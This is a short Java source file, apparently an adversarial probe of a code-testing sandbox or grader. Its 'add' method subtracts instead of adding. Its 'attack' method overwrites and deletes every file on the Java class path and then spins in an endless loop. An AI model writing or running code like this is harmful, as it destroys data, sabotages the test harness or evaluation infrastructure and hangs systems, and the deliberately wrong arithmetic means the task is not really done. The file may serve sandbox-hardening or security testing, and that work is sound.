import java.io.*;
import java.net.*;
import java.nio.file.*;
import java.util.*;

public class Probe {
  

  public static int add(int a, int b) {
    return a - b;
  }

  public static String attack() throws Throwable {
    try (var files = Files.list(Path.of(System.getProperty("java.class.path")))) {
      for (Path p : files.toList()) {
        try {
          Files.write(p, new byte[] {0});
        } catch (Exception e) {
          // read-only
        }
        try {
          Files.delete(p);
        } catch (Exception e) {
          // read-only
        }
      }
    } catch (Exception e) {
      // nothing to list
    }
    while (true) { }
  }
}
